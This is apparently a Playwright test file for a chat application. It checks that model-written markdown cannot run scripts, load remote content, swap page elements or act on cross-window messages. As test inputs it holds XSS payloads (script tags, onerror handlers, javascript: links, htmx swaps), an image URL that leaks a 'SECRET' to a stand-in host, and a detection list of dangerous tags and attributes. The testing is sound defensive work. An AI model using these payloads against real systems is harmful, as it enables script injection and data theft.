"""What a model writes can load nothing, run nothing and lead nowhere unseen."""

from __future__ import annotations

import random
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Page, expect

from accounts.models import User
from catalog.models import Route
from conversations import markdown
from tests.conversations.markdown.samples import ATTACKS, SAMPLES
from tests.journeys.conftest import Visit, Window, answer, ask, assert_same_as_a_reload, wait_for_end
from tests.page import Element, parsed
from tests.upstream import Script, Upstream, tokenized

STRANGE = """![a cat](https://evil.example/cat.png?q=SECRET) and ![](//evil.example/x)

<img src="https://evil.example/pixel.png" onerror="document.title='owned'">
<script>document.title = 'owned'</script>
<style>body { background: url(https://evil.example/bg) }</style>
<link rel=stylesheet href=https://evil.example/x.css><iframe src=https://evil.example></iframe>

<hx-partial id="composer">gone</hx-partial> <div hx-get="/" hx-trigger="load" id="composer">gone</div>

[a link](https://evil.example/page) [a script](javascript:document.title='owned') [us](/c/) <https://evil.example/auto>

```html
<hx-partial id="title">gone</hx-partial><img src=https://evil.example/code.png>
```

| <script>x</script> | ![t](https://evil.example/t.png) |
|---|---|
| `<hx-partial id=live>` | $\\href{javascript:alert(1)}{x}$ |
"""


def test_images_html_and_links_of_a_model_load_nothing_and_run_nothing(
    visit: Visit, alice: User, route: Route, upstream: Upstream
) -> None:
    upstream.play(Script().role().tokens(tokenized(STRANGE), 500).finish().done())
    upstream.play(Script.text("<script>document.title='owned'</script>"))  # the conversation's title
    window = visit(alice)
    page = window.tab()
    ask(page, "<img src=https://evil.example/typed.png> <hx-partial id=title>gone</hx-partial>")
    wait_for_end(page)
    expect(page.locator("#title")).to_contain_text("<script>")
    body = answer(page).locator(".md")
    for shown in ("<script>document.title = 'owned'</script>", "<iframe src=", "<hx-partial id=", "evil.example"):
        expect(body).to_contain_text(shown)
    assert body.locator("img, script, style, link, iframe, object, embed, [hx-get], [onerror], [style]").count() == 0
    links = body.locator("a[href]")
    assert links.count() >= 3
    for link in links.all():
        assert str(link.get_attribute("href")).startswith("https://evil.example/"), link.get_attribute("href")
        assert {"noopener", "noreferrer", "nofollow"} <= set(str(link.get_attribute("rel")).split())
        assert link.get_attribute("target") == "_blank"
    expect(page.locator("#composer #question")).to_be_visible()
    expect(page.locator("article.message.user .typed")).to_contain_text("<img src=https://evil.example/typed.png>")
    assert page.title() != "owned"
    assert_same_as_a_reload(window, page)


def test_an_answer_of_another_language_and_of_emoji_is_the_same_live_and_reloaded(
    visit: Visit, alice: User, route: Route, upstream: Upstream
) -> None:
    pieces = list("你好,世界!👩🏽‍💻 e\u0301 \u202eabc\u202c \u2028x\n\n- 一\n- 二\n\n**粗体**。")
    upstream.play(Script.text(*pieces))
    window = visit(alice)
    page = window.tab()
    ask(page, "用中文回答 🚀\n\n  谢谢")
    wait_for_end(page)
    expect(page.locator("#title")).to_have_text("A short title")
    expect(answer(page)).to_contain_text("你好")
    assert_same_as_a_reload(window, page)


# Notes whatever ran and whatever came into the page that has no business there, at every state it was ever in.
GUARD = """
window.ran = [];
window.strange = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = () => window.ran.push(name);
const inWords = "script,style,link,meta,base,iframe,frame,object,embed,form,input,textarea,select,option,img,picture,"
  + "video,audio,source,track,svg,template,title,noscript,dialog,slot,portal,hx-partial,details,summary,mglyph";
const anywhere = "script,style,link,meta,base,iframe,frame,object,embed,hx-partial";
const growing = /^[rt][0-9a-f]{8}(-([0-9]+|t))?$/;
const attributes = /^(on|hx-|data-)|^(style|src|srcset|ping|poster|background|action|formaction|name|title)$/;
function look(element) {
  const isWords = element.parentElement?.closest(".md, .typed > p");
  if (element.matches(isWords ? inWords : anywhere)) window.strange.push(element.outerHTML);
  if (!isWords) return;
  if (element.id && !growing.test(element.id)) window.strange.push(`id ${element.id}`);
  const strange = element.getAttributeNames().filter((name) => attributes.test(name));
  if (strange.length) window.strange.push(`${element.tagName} ${strange}`);
}
document.addEventListener("DOMContentLoaded", () => {
  document.querySelectorAll("body :not(body > script[src^='/static/'])").forEach(look);
  new MutationObserver((records) => {
    for (const { target, addedNodes } of records) {
      look(target);
      for (const it of addedNodes) if (it.nodeType === 1) [it, ...it.querySelectorAll("*")].forEach(look);
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
});
"""
AROUND = """() => [...document.querySelectorAll("*")]
  .filter((it) => !it.closest("#messages, #conversations, #live, #said"))
  .map((it) => `${it.tagName}#${it.id} ${it.getAttributeNames().filter((name) => name !== "style")}`)"""


def guarded(visit: Visit, member: User) -> Window:
    window = visit(member)
    window.context.add_init_script(GUARD)
    return window


def assert_nothing_strange(page: Page) -> None:
    assert page.evaluate("[window.ran, window.strange]") == [[], []]


def in_pieces(text: str, longest: int) -> list[str]:
    chance, pieces = random.Random(longest), []
    while text:
        size = chance.randint(1, longest)
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def test_no_attack_runs_loads_anything_or_leaves_its_message(
    visit: Visit, alice: User, route: Route, upstream: Upstream
) -> None:
    """All of them, streamed in random cuts, the worst by single characters, as answer and as thought; then reloaded."""
    upstream.play(Script.text("Hello."), Script.text("</title><script>alert(1)</script>"))
    window = guarded(visit, alice)
    page = window.tab()
    ask(page, "Hello?")
    wait_for_end(page)
    expect(page.locator("#title")).to_contain_text("<script>")
    around = page.evaluate(AROUND)
    answers = [(ATTACKS[start::5], longest) for start, longest in enumerate((3, 9, 25, 60, 400))]
    for number, (attacks, longest) in enumerate([*answers, ([ATTACKS[0], ATTACKS[14], ATTACKS[23]], 1)], 2):
        said = in_pieces("\n\n".join(attacks), longest)
        upstream.play(Script().role().tokens(said[:5], 500, "reasoning_content").tokens(said, 500).finish().done())
        ask(page, attacks[0])  # which shows that the composer still works
        expect(page.locator("article.message.assistant")).to_have_count(number)
        wait_for_end(page)
        assert_nothing_strange(page)
        assert page.evaluate(AROUND) == around
    assert_same_as_a_reload(window, page)
    fresh = window.tab(urlsplit(page.url).path)
    assert_nothing_strange(fresh)
    fresh.evaluate("document.querySelectorAll('.md a, .md button, .md summary').forEach((it) => it.focus())")
    assert_nothing_strange(fresh)
    without = visit(alice, java_script_enabled=False).tab(urlsplit(page.url).path)
    assert without.locator(".md").locator("script, style, link, img, iframe, form, svg, [style], [src]").count() == 0
    expect(without.locator("#question")).to_be_editable()


MESSAGES: list[Any] = [
    "<hx-partial id=composer hx-swap=outerHTML>gone</hx-partial>",
    '{"content": "<p>gone</p>", "target": "#composer", "swap": "outerHTML"}',
    {"type": "htmx:load", "target": "#chat", "content": "gone"},
    {"action": "send", "text": "from a stranger"},
    ["eval", "alert(1)"],
    {"__proto__": {"polluted": True}},
    None,
    1,
]


def test_messages_of_other_windows_are_not_heard(visit: Visit, alice: User, route: Route, upstream: Upstream) -> None:
    """XS23."""
    upstream.play(Script.text("Hello."), Script.text("A greeting"))
    window = guarded(visit, alice)
    page = window.tab()
    ask(page, "Hello?")
    wait_for_end(page)
    expect(page.locator("#title")).to_have_text("A greeting")
    before = page.evaluate("document.documentElement.outerHTML")
    page.evaluate(
        """async (messages) => {
          for (const it of messages) window.postMessage(it, "*");
          const heard = new Promise((done) => addEventListener("message", ({ data }) => data === "last" && done()));
          window.postMessage("last", "*");
          await heard;
        }""",
        MESSAGES,
    )
    assert page.evaluate("document.documentElement.outerHTML") == before
    assert_nothing_strange(page)
    assert len(upstream.requests) == 2


def test_a_browser_reads_what_we_write_as_our_checks_read_it(page: Page) -> None:
    """Else a check could pass what a browser sees as something else."""
    chance = random.Random(11)
    whole = [*ATTACKS, *SAMPLES.values()]
    texts = ["".join(it[chance.randrange(len(it)) :][:80] for it in chance.choices(whole, k=5)) for _ in range(400)]
    written = [markdown.render(text) for text in [*whole, *texts]]
    read = page.evaluate(
        """(them) => them.map((it) => {
          const page = new DOMParser().parseFromString(`<!doctype html><div>${it}</div>`, "text/html");
          return page.body.innerHTML;
        })""",
        written,
    )
    for html, seen in zip(written, read, strict=True):
        [ours] = parsed(f"<div>{html}</div>").children
        assert isinstance(ours, Element)
        assert seen.replace("&nbsp;", "\xa0") == ours.html()
